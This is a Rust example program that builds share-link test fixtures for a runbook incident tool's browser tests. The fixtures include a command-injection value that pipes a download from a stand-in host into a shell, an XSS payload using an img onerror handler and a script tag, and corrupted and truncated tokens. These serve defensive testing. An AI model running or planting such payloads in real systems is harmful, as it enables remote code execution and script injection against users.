//! Share links the browser tests open: hostile text, a runbook the site lacks, damaged and
//! foreign tokens. Made with the real encoder so the tests exercise the real decoder.
//! `cargo run -p tokens --example share_fixtures` prints them as JSON.

use runbook::incident::Incident;
use tokens::share::encode;

const START: i64 = 1_795_896_420;
const INJECTION: &str = "10.0.12.7:1/ >/dev/null; curl -s https://evil.example/x | sh; echo http://10.0.12.7";
const HOSTILE: &str = "<img src=x onerror=\"window.__pwned=1\"><script>window.__pwned=2</script>";

fn main() {
    let source =
        std::fs::read_to_string("examples/runbooks/incident-response.md").expect("run from the repository root");
    let runbook = runbook::parse("incident-response.md", &source);

    let mut hostile = Incident::new("hostile1", "incident-response", START);
    for template in &runbook.templates {
        for field in template.fields() {
            hostile.set_field(&field.key, HOSTILE, START + 60);
        }
    }
    hostile.variables.insert("EC2_HOST".into(), HOSTILE.into());
    hostile.record_copy(HOSTILE, START + 120);
    hostile.toggle_step(runbook.steps[0].id, START + 90);
    let hostile_link = encode(&hostile, Some(&runbook)).expect("fits in a link");

    let mut elsewhere = Incident::new("other1", "<img src=x onerror=window.__pwned=3>", START);
    elsewhere.set_severity("SEV1", START);
    let missing_runbook = encode(&elsewhere, None).expect("fits in a link");

    let mut good = Incident::new("good1", "incident-response", START);
    good.toggle_step(runbook.steps[0].id, START + 60);
    let good = encode(&good, Some(&runbook)).expect("fits in a link");
    let mut corrupted = good.clone().into_bytes();
    let last = corrupted.len() - 3;
    corrupted[last] = if corrupted[last] == b'A' { b'B' } else { b'A' };
    let corrupted = String::from_utf8(corrupted).expect("ascii");
    let truncated = &good[..good.len() - 5];

    // A host value that would put a second command on the clipboard.
    let mut injection = Incident::new("inject1", "incident-response", START);
    injection.variables.insert("EC2_HOST".into(), INJECTION.into());
    let injection = encode(&injection, Some(&runbook)).expect("fits in a link");

    // Severity pinned by an event dated in 2100.
    let mut future = Incident::new("future1", "incident-response", START);
    future.set_severity("SEV4", 4_102_444_800);
    let future = encode(&future, Some(&runbook)).expect("fits in a link");

    let entries = [
        ("injection", injection.as_str()),
        ("future", future.as_str()),
        ("hostile", hostile_link.as_str()),
        ("missing_runbook", missing_runbook.as_str()),
        ("good", good.as_str()),
        ("corrupted", corrupted.as_str()),
        ("truncated", truncated),
    ];
    let body: Vec<String> = entries.iter().map(|(k, v)| format!("  {k:?}: {v:?}")).collect();
    println!("{{\n{}\n}}", body.join(",\n"));
}
